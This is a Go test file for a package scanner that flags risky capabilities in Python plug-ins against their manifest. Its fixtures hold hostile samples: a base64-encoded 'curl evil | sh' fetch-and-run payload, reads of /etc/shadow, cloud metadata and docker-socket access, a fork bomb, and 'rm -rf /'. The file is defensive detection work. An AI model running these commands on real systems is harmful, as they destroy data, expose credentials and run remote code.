package quarantine

import (
	"encoding/base64"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

func scanOf(t *testing.T, m *Manifest, files map[string]string) Report {
	t.Helper()
	dir := t.TempDir()
	writeTree(t, dir, files)
	rep, err := ScanDir(dir, m)
	if err != nil {
		t.Fatal(err)
	}
	return rep
}

func rules(r Report) string {
	var s []string
	for _, f := range r.Findings {
		s = append(s, string(f.Severity)+":"+f.Rule)
	}
	return strings.Join(s, " ")
}

func TestScanFindings(t *testing.T) {
	plain := &Manifest{ID: "abc", Version: "1.0.0", Language: LanguagePython, Entry: "main.py"}
	netOK := *plain
	netOK.Capabilities.Network = []string{"api.weather.gov"}
	netOK.Capabilities.Files.Write = []string{"/tmp/out/"}
	proc := *plain
	proc.Capabilities.Subprocess = true
	withDep := *plain
	withDep.Dependencies = []Dependency{{Name: "requests", Version: "==2.32.3", SHA256: strings.Repeat("a", 64)}}
	payload := base64.StdEncoding.EncodeToString([]byte(strings.Repeat("import os; os.system('curl evil | sh')\n", 10)))

	for _, tc := range []struct {
		name  string
		m     *Manifest
		files map[string]string
		want  string // severity:rule list, in report order
	}{
		{"clean", plain, map[string]string{"main.py": "import json\nprint(json.dumps({'a': 1}))  # eval( in a comment\n", "data/x.json": "{}"}, ""},
		{"undeclared network", plain, map[string]string{"main.py": "import requests\nrequests.get('https://evil.example/x')\n"}, "high:NET-001 high:NET-002"},
		{"declared network", &netOK, map[string]string{"main.py": "import urllib.request\nurllib.request.urlopen('https://api.weather.gov/points')\n"}, "info:NET-001 info:NET-001"},
		{"other host with declared network", &netOK, map[string]string{"main.py": "x = 'http://169.254.169.254/latest/meta-data'\n"}, "high:NET-002"},
		{"raw socket", plain, map[string]string{"main.py": "import socket as s\n"}, "high:NET-001"},
		{"undeclared subprocess", plain, map[string]string{"main.py": "import subprocess\nimport os\nos.system('id')\n"}, "high:PROC-001 high:PROC-001"},
		{"declared subprocess", &proc, map[string]string{"main.py": "import subprocess\n"}, "low:PROC-001"},
		{"fork bomb", plain, map[string]string{"main.py": "import os\nwhile True:\n    os.fork()\n"}, "high:PROC-001"},
		{"eval", plain, map[string]string{"main.py": "x = eval(input())\n"}, "high:EXEC-001"},
		{"exec", plain, map[string]string{"main.py": "exec('print(1)')\n"}, "high:EXEC-001"},
		{"re.compile is fine", plain, map[string]string{"main.py": "import re\nr = re.compile('a+')\n"}, ""},
		{"builtins trick", plain, map[string]string{"main.py": "f = getattr(__builtins__, 'ev' + 'al')\n"}, "high:EXEC-002"},
		{"pickle", plain, map[string]string{"main.py": "import pickle\npickle.loads(b)\n"}, "high:EXEC-003 high:EXEC-003"},
		{"ctypes", plain, map[string]string{"main.py": "import ctypes\n"}, "high:NATIVE-001"},
		{"docker socket", plain, map[string]string{"main.py": "p = '/var/run/docker.sock'\n"}, "critical:ESC-001"},
		{"shadow", plain, map[string]string{"main.py": "print(open('/etc/shadow').read())\n"}, "high:FS-002"},
		{"write outside", plain, map[string]string{"main.py": "open('/usr/bin/x', 'w').write('boom')\nopen('../../up.txt', mode='a')\nopen('/opt/x', \"rb+\")\nopen('/opt/y')\n"}, "high:FS-001 high:FS-001 high:FS-001"},
		{"write to declared tmp", &netOK, map[string]string{"main.py": "open('/tmp/out/r.txt', 'w')\n"}, ""},
		{"write to undeclared tmp", plain, map[string]string{"main.py": "open('/tmp/r.txt', 'w')\n"}, "high:FS-001"},
		{"remove home", plain, map[string]string{"main.py": "import shutil\nshutil.rmtree('~/')\n"}, "high:FS-001"},
		{"obfuscated payload", plain, map[string]string{"main.py": "import base64\nexec(base64.b64decode('" + payload + "'))\n"}, "critical:OBF-002 high:EXEC-001"},
		{"blob alone", plain, map[string]string{"main.py": "ICON = '" + payload + "'\n"}, "medium:OBF-001"},
		{"blob in data", plain, map[string]string{"main.py": "pass\n", "icon.txt": payload}, "medium:OBF-001"},
		{"compiled", plain, map[string]string{"main.py": "pass\n", "x.pyc": "\x00\x01"}, "high:BIN-001"},
		{"elf", plain, map[string]string{"main.py": "pass\n", "tool": "\x7fELF\x02\x01"}, "high:BIN-001"},
		{"shell", plain, map[string]string{"main.py": "pass\n", "run.sh": "#!/bin/sh\nrm -rf /\n"}, "high:LANG-001"},
		{"setup.py", plain, map[string]string{"main.py": "pass\n", "setup.py": "from setuptools import setup\n"}, "high:DEP-003"},
		{"missing entry", plain, map[string]string{"other.py": "pass\n"}, "high:MAN-001"},
		{"pinned requirements", &withDep, map[string]string{"main.py": "pass\n", "requirements.txt": "# deps\nrequests==2.32.3 --hash=sha256:" + strings.Repeat("a", 64) + "\n"}, ""},
		{"unpinned requirements", &withDep, map[string]string{"main.py": "pass\n", "requirements.txt": "requests>=2\nflask==3.0.0\n--index-url https://evil\nrequests==2.32.3 --hash=sha256:" + strings.Repeat("b", 64) + "\n"}, "high:DEP-001 high:DEP-001 high:DEP-001 high:DEP-002"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			rep := scanOf(t, tc.m, tc.files)
			if got := rules(rep); got != tc.want {
				t.Fatalf("findings %q, want %q\n%v", got, tc.want, rep.Findings)
			}
			if rep.Passed() != !strings.Contains(tc.want, "high") && !strings.Contains(tc.want, "critical") {
				t.Fatalf("Passed() = %v for %q", rep.Passed(), tc.want)
			}
			for _, f := range rep.Findings {
				if f.File == "" || f.Message == "" || f.Line == 0 && strings.Contains(f.Rule, "NET") {
					t.Errorf("finding without file, line or message: %+v", f)
				}
			}
		})
	}
}

func TestScanReportsLineAndSnippet(t *testing.T) {
	m := &Manifest{ID: "abc", Version: "1.0.0", Language: LanguagePython, Entry: "main.py"}
	rep := scanOf(t, m, map[string]string{"main.py": "a = 1\nb = 2\nimport socket\n"})
	f := rep.Findings[0]
	if f.File != "main.py" || f.Line != 3 || f.Snippet != "import socket" || f.Severity != SeverityHigh {
		t.Fatalf("finding %+v", f)
	}
	if got := f.String(); got != "high NET-001 main.py:3: network use, but the manifest declares no network hosts (capabilities.network)" {
		t.Fatalf("String() = %q", got)
	}
}

func TestScanRefusesLinks(t *testing.T) {
	dir := t.TempDir()
	os.WriteFile(filepath.Join(dir, "main.py"), []byte("pass\n"), 0o600)
	os.Symlink("/etc/shadow", filepath.Join(dir, "s"))
	if _, err := ScanDir(dir, &Manifest{Entry: "main.py"}); err == nil {
		t.Fatal("scanned a folder with a symlink")
	}
}

func FuzzScanFile(f *testing.F) {
	for _, s := range []string{"import socket\n", "x = '#' # eval(\n", "exec(base64.b64decode('" + strings.Repeat("QUFB", 60) + "'))", "open('/etc/x', 'w')", "requests==1.0 --hash=sha256:" + strings.Repeat("a", 64), "\"\\", "'''\neval(\n'''"} {
		f.Add("main.py", []byte(s))
		f.Add("requirements.txt", []byte(s))
	}
	m := &Manifest{ID: "abc", Version: "1.0.0", Language: LanguagePython, Entry: "main.py", Capabilities: Capabilities{Network: []string{"example.org"}}}
	f.Fuzz(func(t *testing.T, name string, data []byte) {
		for _, fd := range scanFile(name, data, m) {
			if fd.Rule == "" || fd.Message == "" || fd.Severity.rank() > 4 || fd.Line < 0 || len(fd.Snippet) > 200 {
				t.Fatalf("bad finding %+v", fd)
			}
		}
	})
}
